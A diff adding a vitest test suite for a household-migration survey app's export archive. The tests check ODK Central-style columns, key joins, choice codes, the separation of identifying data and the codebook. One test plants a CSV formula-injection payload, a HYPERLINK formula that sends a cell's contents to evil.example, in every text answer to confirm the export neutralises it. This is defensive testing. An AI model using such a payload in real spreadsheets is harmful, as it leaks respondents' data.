@@ -1,0 +1,240 @@
+/**
+ * The export archive read back as a statistician would: its files, ODK Central's columns,
+ * keys that join, choice codes across versions, the identifying tables, options.
+ */
+import { describe, expect, it } from 'vitest';
+import { strFromU8, unzipSync } from 'fflate';
+import { forms } from '$lib/forms';
+
+const v2 = forms.find((f) => f.definition.version === '2026-12-15')!;
+import { head2, household2, migrant2, restOfInterview, son2, wife2 } from '$lib/forms/samples-v2';
+import { choiceCode } from './codes';
+import { archiveFiles, archiveOptions, exportArchive, identifyingNames, type ArchiveOptions } from './export-zip';
+import { householdAnswers, sampleSubmission } from './testing';
+import type { StoredSubmission } from './storage/types';
+import { csvRecords, csvRows } from '../../../tests/support/csv';
+
+function stored(overrides: Partial<StoredSubmission> = {}): StoredSubmission {
+	return { ...sampleSubmission(), enumeratorId: 'e1', enumeratorSex: 'female', receivedAt: '2026-12-16T09:00:00Z', ...overrides };
+}
+
+/** A version-2 household: head, wife, a son away with a migrant entry, the rest of the interview. */
+function household(extra: Record<string, unknown> = {}): StoredSubmission {
+	return stored({
+		formVersion: '2026-12-15',
+		startedAt: '2026-12-16T08:00:00.000Z',
+		answers: household2({ member: [head2(), wife2(), migrant2(3)], ...restOfInterview(), ...extra })
+	});
+}
+
+/** The archive's files, unzipped, as text. */
+function unzip(submissions: StoredSubmission[], options: ArchiveOptions = {}): Map<string, string> {
+	const zip = exportArchive(forms, submissions, { ...(archiveOptions(new URLSearchParams()) as ArchiveOptions), ...options });
+	return new Map(Object.entries(unzipSync(zip)).map(([name, bytes]) => [name, strFromU8(bytes)]));
+}
+
+const records = (files: Map<string, string>, name: string) => csvRecords(files.get(name)!);
+
+const HOSTILE = '=HYPERLINK("http://evil.example/?d="&A2,"open")';
+
+/** A version-2 household with a hostile answer in every text question of the questionnaire, a sov_worker entry too. */
+function hostileHousehold(): { submission: StoredSubmission; questions: string[] } {
+	const submission = household({ sov_worker: [{ _key: '00000000-0000-4000-8000-000000000900', sov_w_rel: 'father' }] });
+	const questions: string[] = [];
+	/** Puts the hostile answer in every entry the chain of repeats reaches; how many it put. */
+	const put = (values: Record<string, unknown>, chain: readonly string[], name: string): number => {
+		if (!chain.length) {
+			values[name] = HOSTILE;
+			return 1;
+		}
+		const entries = values[chain[0]];
+		return Array.isArray(entries) ? entries.reduce((n: number, entry) => n + put(entry, chain.slice(1), name), 0) : 0;
+	};
+	for (const node of v2.nodes.values()) {
+		if (node.item.type !== 'text') continue;
+		expect(put(submission.answers, node.repeats, node.item.name), node.item.name).toBeGreaterThan(0);
+		questions.push(node.item.name);
+	}
+	return { submission, questions };
+}
+
+/** Cells a spreadsheet would run: a text starting with = + - @, tab, CR, LF or their full-width forms. Numbers are not. */
+const runnable = (cell: string) => /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);
+
+describe('the export archive', () => {
+	it('holds the main table, one per repeat, the identifying tables and the codebook', () => {
+		const files = unzip([household()]);
+		expect([...files.keys()].sort()).toEqual(
+			[
+				'codebook.csv',
+				'household_migration.csv',
+				'household_migration-identifying.csv',
+				'household_migration-member.csv',
+				'household_migration-member-identifying.csv',
+				'household_migration-migrant.csv',
+				'household_migration-migrant-identifying.csv',
+				'household_migration-sov_worker.csv',
+				'household_migration-sov_worker-identifying.csv'
+			].sort()
+		);
+	});
+
+	it("names the main table's columns as ODK Central does, with ReviewState received, and the rest as the single table has them", () => {
+		const a = household();
+		const b = stored();
+		const files = unzip([a, b], { enumerators: new Map([['e1', 'Նարինե']]) });
+		const [header] = csvRows(files.get('household_migration.csv')!);
+		expect(header[0]).toBe('SubmissionDate');
+		expect(header.slice(header.indexOf('KEY'))).toEqual([
+			'KEY',
+			'SubmitterID',
+			'SubmitterName',
+			'DeviceID',
+			'FormVersion',
+			'ReviewState',
+			'started_at',
+			'finalized_at',
+			'reference_date',
+			'language',
+			'enumerator_sex',
+			'break_off',
+			'break_off_at',
+			'break_off_reason'
+		]);
+		expect(header).toEqual(expect.arrayContaining(['site_type', 'settlement', 'consent', 'resp_sex']));
+		const rows = records(files, 'household_migration.csv');
+		expect(rows.map((r) => [r.KEY, r.SubmissionDate, r.SubmitterID, r.SubmitterName, r.DeviceID, r.FormVersion, r.ReviewState])).toEqual([
+			[a.id, a.receivedAt, 'e1', 'Նարինե', 'device-1', '2026-12-15', 'received'],
+			[b.id, b.receivedAt, 'e1', 'Նարինե', 'device-1', '2026-12-01', 'received']
+		]);
+		// instance_name reads the head's name: it is identifying, so it stands in the identifying table.
+		expect(csvRows(files.get('household_migration-identifying.csv')!)[0]).toEqual(expect.arrayContaining(['KEY', 'instance_name', 'gps']));
+	});
+
+	it('joins: every entry names a row of its parent table, and keys are unique', () => {
+		const a = household();
+		const b = household({ member: [head2(), son2()] });
+		const files = unzip([a, b]);
+		const main = records(files, 'household_migration.csv').map((r) => r.KEY);
+		const members = records(files, 'household_migration-member.csv');
+		const migrants = records(files, 'household_migration-migrant.csv');
+		expect(members.length).toBe(5);
+		expect(migrants.length).toBe(1);
+		for (const m of members) expect(main).toContain(m.PARENT_KEY);
+		for (const m of migrants) expect(members.map((x) => x.KEY)).toContain(m.PARENT_KEY);
+		expect(new Set(members.map((m) => m.KEY)).size).toBe(members.length);
+		expect(migrants[0].PARENT_KEY).toBe(`${a.id}/member[3]`);
+		const identifying = records(files, 'household_migration-member-identifying.csv');
+		expect(identifying.map((r) => [r.KEY, r.m_name])).toEqual(
+			members.map((m, i) => [m.KEY, ['Arsen', 'Anahit', expect.any(String), 'Arsen', expect.any(String)][i]])
+		);
+	});
+
+	it("writes choices as their numeric codes, 2026-12-01's answers through 2026-12-15's codes; -1/-2 for Don't know/Refused", () => {
+		const old = stored({ answers: { ...householdAnswers(), resp_age: { special: 'refused' }, hh_moved_year: { special: 'dont_know' } } });
+		const files = unzip([household(), old]);
+		const [now, before] = records(files, 'household_migration.csv');
+		expect(now).toMatchObject({ consent: '1', resp_sex: '2', site_type: String(choiceCode(forms, 'site_type', 'armenia')) });
+		expect(before).toMatchObject({ consent: '1', resp_age: '-2', hh_moved_year: '-1' });
+		expect(before.resp_sex).toBe(String(choiceCode(forms, 'resp_sex', String(old.answers.resp_sex), '2026-12-01')));
+		// a multiple choice: its codes, separated by spaces, every one a number
+		expect(before.inc_sources).toBe(
+			(old.answers.inc_sources as string[]).map((v) => choiceCode(forms, 'inc_sources', v, '2026-12-01')).join(' ')
+		);
+		expect(before.inc_sources).toMatch(/^\d+( \d+)*$/);
+		expect(now.inc_sources).toBe(String(choiceCode(forms, 'inc_sources', 'pension')));
+		const members = records(files, 'household_migration-member.csv');
+		expect(members[0].m_sex).toBe('1');
+		expect(members[1].m_sex).toBe('2');
+	});
+
+	it('leaves a question not asked empty, or -7 (did not apply) and -9 (after a break-off) with codes=cb', () => {
+		const broken = household({
+			member: undefined,
+			roster_ok: undefined,
+			...Object.fromEntries(Object.keys(restOfInterview()).map((k) => [k, undefined]))
+		});
+		broken.meta = { breakOff: { at: 'member', reason: 'left' } };
+		const plain = records(unzip([household(), broken]), 'household_migration.csv');
+		expect(plain[0].g_emigrate_reason).toBe('');
+		expect(plain[1].h_cooperation).toBe('');
+		const cb = records(unzip([household(), broken], { caucasusBarometerCodes: true }), 'household_migration.csv');
+		expect(cb[0].g_emigrate_reason).toBe('-7');
+		expect(cb[1].h_cooperation).toBe('-9');
+		expect(cb[1].break_off).toBe('1');
+	});
+
+	it('keeps every identifying value in the identifying tables, and leaves them out with identifying=0', () => {
+		const a = household({ settlement: 'other', settlement_other: 'Secret village', h_notes: 'Lives next to the school' });
+		const secret = identifyingNames(forms);
+		expect([...secret]).toEqual(expect.arrayContaining(['m_name', 'gps', 'settlement_other', 'h_notes', 'instance_name']));
+		const values = ['Arsen', 'Anahit', 'Secret village', 'Lives next to the school', '40.18'];
+		const files = unzip([a]);
+		for (const [name, text] of files) {
+			if (name.endsWith('-identifying.csv') || name === 'codebook.csv') continue;
+			const header = csvRows(text)[0];
+			for (const column of header) expect(secret.has(column), `${name}: ${column}`).toBe(false);
+			for (const value of values) expect(text, `${name} holds ${value}`).not.toContain(value);
+		}
+		const identifying = records(files, 'household_migration-identifying.csv')[0];
+		expect(identifying).toMatchObject({
+			KEY: a.id,
+			settlement_other: 'Secret village',
+			h_notes: 'Lives next to the school',
+			gps: '40.18 44.51 12'
+		});
+		const without = unzip([a], { identifying: false });
+		expect([...without.keys()].filter((n) => n.includes('identifying'))).toEqual([]);
+		for (const [name, text] of without) if (name !== 'codebook.csv') for (const v of values) expect(text, name).not.toContain(v);
+	});
+
+	it('documents the columns in codebook.csv, with ODK Central names for the details', () => {
+		const codebook = records(unzip([household()]), 'codebook.csv');
+		const variables = codebook.map((r) => r.variable);
+		expect(variables).toEqual(
+			expect.arrayContaining(['SubmissionDate', 'SubmitterID', 'SubmitterName', 'DeviceID', 'FormVersion', 'ReviewState'])
+		);
+		expect(variables).not.toContain('submitted_at');
+		expect(codebook.find((r) => r.variable === 'resp_sex')?.values_en).toBe('1=Male; 2=Female');
+	});
+
+	it('checks its query parameters', () => {
+		expect(archiveOptions(new URLSearchParams('labels=de'))).toMatch(/labels/);
+		expect(archiveOptions(new URLSearchParams('labels=ru&bom=1&identifying=0&split_multiple=1&split_geo=1&codes=cb'))).toMatchObject({
+			labels: 'ru',
+			bom: true,
+			identifying: false,
+			splitMultiple: true,
+			splitGeo: true,
+			caucasusBarometerCodes: true
+		});
+		expect(archiveOptions(new URLSearchParams('codes=other&bom=yes'))).toMatchObject({
+			caucasusBarometerCodes: false,
+			bom: false,
+			identifying: true
+		});
+		// The archive's layout does not depend on the caller asking for it.
+		expect(archiveFiles(forms, [household()]).get('household_migration.csv')).toMatch(/^SubmissionDate,/);
+		expect(records(new Map(archiveFiles(forms, [household()])), 'household_migration.csv')[0].consent).toBe('1');
+	});
+
+	it('makes a formula inert in every text question of the questionnaire, in every table; numbers and codes stay numbers', () => {
+		const { submission, questions } = hostileHousehold();
+		expect(questions.length).toBeGreaterThan(15);
+		const files = unzip([submission], { caucasusBarometerCodes: true, splitMultiple: true, splitGeo: true });
+		const seen = new Set<string>();
+		for (const [name, text] of files) {
+			const [header, ...rows] = csvRows(text);
+			for (const row of rows) {
+				row.forEach((cell, i) => {
+					expect(runnable(cell), `${name} ${header[i]}: ${cell}`).toBe(false);
+					if (cell === `'${HOSTILE}`) seen.add(header[i]);
+				});
+			}
+		}
+		expect([...seen].sort()).toEqual(expect.arrayContaining(questions));
+		const main = records(files, 'household_migration.csv')[0];
+		expect(main.g_emigrate_reason).toBe('-7');
+		expect(main.resp_age).toBe('38');
+	});
+});
